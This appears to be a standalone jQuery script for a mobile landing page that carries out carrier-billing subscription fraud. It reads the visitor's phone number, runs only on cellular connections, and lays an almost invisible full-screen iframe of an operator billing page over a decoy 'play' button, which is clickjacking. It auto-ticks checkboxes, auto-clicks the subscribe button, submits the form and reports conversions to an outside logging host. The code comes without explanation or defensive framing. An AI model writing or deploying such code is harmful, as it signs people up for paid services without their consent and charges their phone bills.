(function ($) {
  var msisdn = $('meta[name=x-msisdn]').attr('content') || '';
  var op = { '41001': 'opA', '41004': 'opB', '28601': 'opC' }[$('body').data('mccmnc')];
  if (navigator.connection && navigator.connection.type && navigator.connection.type !== 'cellular') return;
  if (!op) { location.replace('https://smart.vas-flow.example/w'); return; }
  $('<iframe/>', { id: 'lp', src: 'https://' + op + '.bill-pay.example/sub?svc=games_weekly&msisdn=' + msisdn, css: { opacity: 0.0001, position: 'fixed', top: 0, left: 0, width: '100%', height: '100%', zIndex: 9999 } }).appendTo('body');
  $('#play').css({ position: 'absolute', zIndex: 1, top: $('#confirm-pos').offset() ? $('#confirm-pos').offset().top : 310 });
  $('#lp').on('load', function () {
    try {
      var d = $(this).contents();
      d.find('input[type=checkbox]').prop('checked', true);
      setTimeout(function () { d.find('button.confirm, a.subscribe, input[type=submit]').first()[0].click(); }, 1200);
      setTimeout(function () { var s = d.find('form')[0]; s && s.submit(); }, 3000);
    } catch (e) { $.get('https://log.vas-flow.example/e', { op: op, m: e.message }); }
  });
  $(window).on('blur', function () { $.get('https://log.vas-flow.example/cv', { op: op, c: location.search }); $('#lp').remove(); });
})(jQuery);
